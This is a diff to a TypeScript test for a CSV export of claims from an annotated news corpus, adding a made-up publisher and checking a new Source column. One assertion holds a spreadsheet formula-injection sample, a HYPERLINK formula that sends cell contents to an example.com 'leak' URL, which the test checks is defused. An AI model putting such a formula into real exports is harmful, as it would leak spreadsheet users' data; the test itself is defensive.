@@ -25,7 +25,14 @@ function rowsOf(csv: string): Record<string, string>[] {
 }
 
 describe('encodeClaimsTable on the corpus fixture', () => {
-  const rows = rowsOf(encodeClaimsTable(fixture));
+  // The first report with a publisher (made up for the test); the second says none.
+  const [pompeo, ...rest] = fixture.documents;
+  const rows = rowsOf(
+    encodeClaimsTable({
+      ...fixture,
+      documents: [{ ...pompeo!, source: 'The Corpus Herald' }, ...rest],
+    }),
+  );
 
   it('writes one row per claim, of every layer, documents in order and claims by position', () => {
     const claims = fixture.annotations.filter((a) => a.label === 'claim');
@@ -42,6 +49,7 @@ describe('encodeClaimsTable on the corpus fixture', () => {
     expect(rows.find((row) => row.Claim.startsWith('Both must implement'))).toEqual({
       'Document ID': fixture.documents[0]!.id,
       'Document title': 'Pompeo steps into the conflict',
+      Source: 'The Corpus Herald',
       Published: '2020-10-30',
       Claim: 'Both must implement a ceasefire and return to substantive negotiations.',
       Start: '761',
@@ -59,15 +67,16 @@ describe('encodeClaimsTable on the corpus fixture', () => {
     });
   });
 
-  it('defuses a note a spreadsheet would run, and leaves a document without a date empty', () => {
+  it('defuses a note a spreadsheet would run, and leaves a document without a date or source empty', () => {
     const row = rows.find((candidate) => candidate.Claim.startsWith('Azerbaijan swiftly'))!;
     expect(row.Note).toBe(`'=HYPERLINK("https://example.com/?leak="&A1, "source")`);
-    expect([row.Published, row['Date value'], row.Targets, row['Target entities']]).toEqual([
-      '',
-      '2022-09',
-      'Azerbaijan',
-      'Azerbaijan',
-    ]);
+    expect([
+      row.Source,
+      row.Published,
+      row['Date value'],
+      row.Targets,
+      row['Target entities'],
+    ]).toEqual(['', '', '2022-09', 'Azerbaijan', 'Azerbaijan']);
   });
 });
 
